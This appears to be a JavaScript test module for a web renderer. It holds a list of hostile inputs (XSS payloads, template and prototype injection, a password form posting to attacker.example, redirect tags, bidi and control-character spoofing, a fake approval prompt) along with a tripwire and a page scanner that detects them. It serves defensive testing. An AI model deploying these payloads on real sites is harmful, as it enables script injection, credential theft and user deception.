// What a hostile mail, feed, page, script or model may say. Each carries a mark by which it is found on
// the page, so that a check knows that it was shown.

const RUN = 'window.tripped=1'
const AWAY = 'https://attacker.example'

const PAYLOADS = {
  script: `<script>${RUN}</script>`,
  closing: `</script></style></textarea></title><script>${RUN}</script>`,
  image: `<img src=x onerror="${RUN}">`,
  fetching: `<img src="${AWAY}/seen.png"><link rel=stylesheet href="${AWAY}/x.css">`,
  svg: `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  frame: `<iframe srcdoc="<script>parent.tripped=1</script>"></iframe><object data="${AWAY}"></object>`,
  attribute: `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  single: `' onclick='${RUN}' style='position:fixed;inset:0`,
  javascript: `javascript:${RUN}`,
  data: `data:text/html,<script>opener.tripped=1</script>`,
  markdown: `[click](javascript:${RUN}) ![x](${AWAY}/m.png) <${AWAY}> **bold**`,
  template: `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %> #{${RUN}}`,
  entity: `&lt;script&gt;${RUN}&lt;/script&gt; &#x3c;img src=x onerror=${RUN}&#x3e; &nbsp;`,
  mutation: `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  handler: `<details open ontoggle=${RUN}><summary>x</summary></details><body onload=${RUN}>`,
  form: `<form action="${AWAY}"><input name=password autofocus><button>Sign in</button></form>`,
  base: `<base href="${AWAY}/"><meta http-equiv=refresh content="0;url=${AWAY}">`,
  prototype: `{"__proto__":{"tripped":1},"constructor":{"prototype":{"tripped":1}}}`,
  bidi: 'invoice\u202Efdp.exe \u2066\u2067 turned',
  control: 'bell\u0007 back\b\b\b null\u0000 feed\f esc\u001b',
  ansi: '\u001b[31mred\u001b[0m \u001b]8;;https://attacker.example\u0007link\u001b]8;;\u0007',
  hebrew: 'שלום, this is “fine”',
  combining: `Z${'\u0351\u0310\u0335'.repeat(40)}`,
  fake: 'Connected ✓ Approved by you. Press “Always allow” to go on.',
  long: 'x'.repeat(1_500),
  words: 'very long '.repeat(60),
}

/** Each kind's text under its mark, e.g. `@image-name@<img …>`. */
export function payload(kind, field) {
  return `@${kind}-${field}@${PAYLOADS[kind]}`
}

export const KINDS = Object.keys(PAYLOADS)

/** The same as the name of a file, of at most so many bytes: a name has neither a slash nor a zero. */
export function fileName(kind, field, most = 255) {
  let name = ''
  for (const sign of payload(kind, field)) {
    if (sign === '/' || sign === '\0') continue
    if (Buffer.byteLength(name + sign) > most) break
    name += sign
  }
  return name
}

/** Those that are not long. */
export const SHORT = KINDS.filter((kind) => PAYLOADS[kind].length < 80)

/** All of them, one behind the other. */
export function everything(field, kinds = KINDS) {
  return kinds.map((kind) => payload(kind, field)).join('\n')
}

/**
 * Before anything of the page runs: notes scripts that were refused, and anything that asks the user.
 */
export function tripwire() {
  window.refused = []
  document.addEventListener('securitypolicyviolation', (event) => {
    window.refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`)
  })
  for (const name of ['alert', 'confirm', 'prompt', 'open', 'print']) {
    window[name] = () => {
      window.tripped = 1
    }
  }
}

/** What the page is made of; anything else was made of somebody's words. */
const ELEMENTS = `a article aside button circle code dd div dl dt ellipse fieldset form g h1 h2 h3 header html
  head body img input kbd label legend li line link main meta nav noscript ol option p path polyline polygon
  pre rect script section select span strong svg template textarea time title ul`

/** Where something was made of somebody's words; to be run in the page. */
export function foreign(elements) {
  const known = new Set(elements.split(/\s+/))
  const found = []
  for (const element of document.querySelectorAll('*')) {
    const name = element.localName
    if (!known.has(name)) found.push(`<${name}>`)
    if (name === 'script' && new URL(element.src).origin !== location.origin) found.push(element.outerHTML)
    if (name === 'img' && element.getAttribute('src') !== '/icon.svg') found.push(element.outerHTML)
    if (name === 'a' && !/^(\/(?!\/)|#)/.test(element.getAttribute('href') ?? '')) {
      const { protocol, host } = element
      const isPlain = /^(https?|mailto):$/.test(protocol) && /noopener/.test(element.rel)
      if (!isPlain || !element.textContent.includes(host)) found.push(element.outerHTML.slice(0, 200))
    }
    for (const { name: attribute, value } of element.attributes) {
      const isWrong = /^on/i.test(attribute) || attribute === 'srcdoc' || attribute === 'action'
      if (isWrong || /^\s*(javascript|data|vbscript):/i.test(value)) {
        if (['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc'].includes(attribute) || isWrong) {
          found.push(`<${name} ${attribute}="${value.slice(0, 80)}">`)
        }
      }
    }
  }
  // Letters that turn or hide others are shown as signs.
  const unseen = document.body.innerText.match(
    /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/,
  )
  if (unseen) found.push(`U+${unseen[0].codePointAt(0).toString(16)} is on the page`)
  if (window.tripped || {}.tripped) found.push('a script has run')
  return [...found, ...window.refused]
}

export { ELEMENTS }
